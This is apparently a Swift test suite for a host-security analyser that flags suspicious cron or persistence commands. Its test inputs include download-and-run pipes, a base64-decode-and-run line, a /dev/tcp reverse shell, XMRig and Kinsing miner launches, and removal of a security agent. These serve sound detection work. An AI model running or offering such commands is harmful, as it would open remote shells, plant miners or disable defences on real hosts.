import Testing

@testable import PaichaHost

@Suite("Command analysis")
struct CommandAnalysisTests {
    let indicators: HostIndicators

    init() throws { self.indicators = try HostIndicators.bundled() }

    @Test("the lexer keeps quoted words whole, drops redirection numbers and sees operators")
    func lexer() {
        let (tokens, isCut) = ShellLexer.tokens(
            #""/root/.acme.sh"/acme.sh --home 'a b' 2>/dev/null | sh -c "x \"y\"" # c"#
        )
        #expect(!isCut)
        #expect(
            tokens == [
                .word("/root/.acme.sh/acme.sh"), .word("--home"), .word("a b"), .control(">"), .word("/dev/null"),
                .control("|"), .word("sh"), .word("-c"), .word("x \"y\""),
            ]
        )
        #expect(
            ShellLexer.tokens("bash -c \"$(curl -fsSL http://x/a.sh)\";sh <(wget -O- u)&").tokens == [
                .word("bash"), .word("-c"), .word("$(curl -fsSL http://x/a.sh)"), .control(";"), .word("sh"),
                .control("<("), .word("wget"), .word("-O-"), .word("u"), .control(")"), .control("&"),
            ]
        )
    }

    @Test(
        "signs of bad persistence, each with its detail",
        arguments: [
            (
                "(curl -fsSL http://1.2.3.4/a.sh || wget -q -O- http://1.2.3.4/a.sh) | sh",
                [
                    CommandSign(
                        kind: .downloadAndRun,
                        detail: "(curl -fsSL http://1.2.3.4/a.sh || wget -q -O- http://1.2.3.4/a.sh) | sh"
                    )
                ]
            ),
            (
                "echo Y3VybA== | base64 -d | bash",
                [CommandSign(kind: .decodeAndRun, detail: "echo Y3VybA== | base64 -d | bash")]
            ),
            (
                "bash -c \"$(curl -s http://x/i)\"",
                [CommandSign(kind: .downloadAndRun, detail: "$(curl -s http://x/i)")]
            ),
            (
                "cd /var/tmp/.cache && ./kdevtmpfsi",
                [
                    CommandSign(kind: .hiddenTemporaryProgram, detail: "/var/tmp/.cache/kdevtmpfsi"),
                    CommandSign(kind: .minerProgram, detail: "/var/tmp/.cache/kdevtmpfsi (Kinsing)"),
                ]
            ),
            ("nohup /dev/shm/run &", [CommandSign(kind: .temporaryProgram, detail: "/dev/shm/run")]),
            ("sudo -u bob /home/bob/.x/run", [CommandSign(kind: .hiddenProgram, detail: "/home/bob/.x/run")]),
            ("sh /tmp/.s.sh", [CommandSign(kind: .hiddenTemporaryProgram, detail: "/tmp/.s.sh")]),
            (
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                [CommandSign(kind: .networkRedirection, detail: "/dev/tcp/10.0.0.1/4444")]
            ),
            (
                "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level=1",
                [
                    CommandSign(kind: .minerProgram, detail: "./xmrig (XMRig)"),
                    CommandSign(kind: .poolURL, detail: "stratum+tcp://pool.supportxmr.com:3333"),
                    CommandSign(kind: .poolDomain, detail: "pool.supportxmr.com"),
                    CommandSign(kind: .minerFlag, detail: "--donate-level -o stratum"),
                ]
            ),
            ("pkill -f kinsing", [CommandSign(kind: .killPattern, detail: "pkill -f kinsing")]),
            (
                "/bin/bash -lc 'nohup /tmp/.k/kswapd0 &'",
                [
                    CommandSign(kind: .hiddenTemporaryProgram, detail: "/tmp/.k/kswapd0"),
                    CommandSign(kind: .minerProgram, detail: "/tmp/.k/kswapd0 (Outlaw (XMRig))"),
                ]
            ),
            ("bash -e /var/tmp/i.sh", [CommandSign(kind: .temporaryProgram, detail: "/var/tmp/i.sh")]),
            ("python3 -c 'import os' /tmp/x", []),
            ("rm -rf /usr/local/aegis", [CommandSign(kind: .killPattern, detail: "aegis")]),
        ]
    )
    func bad(command: String, signs: [CommandSign]) {
        #expect(self.indicators.analyzeCommand(command).signs == signs)
    }

    @Test(
        "ordinary commands show no sign",
        arguments: [
            "\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null",
            "find /tmp -type f -mtime +7 -delete",
            "flock -n /tmp/sync.lock /usr/local/bin/sync.sh",
            "flock /tmp/x.lock -c 'rsync -a /srv/ nas:/srv/'",
            "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
            "/srv/app/venv/bin/gunicorn --workers 3 --keepalive 5 --bind unix:/run/app.sock app:app",
            "celery -A app worker --pool=prefork --concurrency=4",
            "curl -fsS -o /dev/null https://hc-ping.com/abc",
            "wget -q -O /srv/data.csv https://example.org/data.csv && /usr/local/bin/import /srv/data.csv",
            "[ -f ~/.bash_aliases ] && . ~/.bash_aliases",
            "/usr/local/qcloud/stargate/admin/start.sh",
            "-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM",
            "/usr/bin/python3 /home/alice/app/worker.py --pool-size 4",
            "",
            "'unterminated \"quote",
        ]
    )
    func ordinary(command: String) {
        #expect(self.indicators.analyzeCommand(command).signs == [])
    }

    @Test("programs are resolved after cd and through sh SCRIPT")
    func programs() {
        let analysis = self.indicators.analyzeCommand(
            "cd /opt/app; ./run.sh && sh bin/task.sh; /usr/bin/env X=1 /opt/t"
        )
        #expect(analysis.programs == ["/opt/app/run.sh", "/opt/app/bin/task.sh", "/opt/t"])
    }

    @Test("severity is the strongest sign; three kinds together are high")
    func severity() {
        #expect(self.indicators.analyzeCommand("/tmp/run").severity == .medium)
        #expect(self.indicators.analyzeCommand("curl x | sh").severity == .high)
        #expect(self.indicators.analyzeCommand("ls").severity == nil)
    }
}
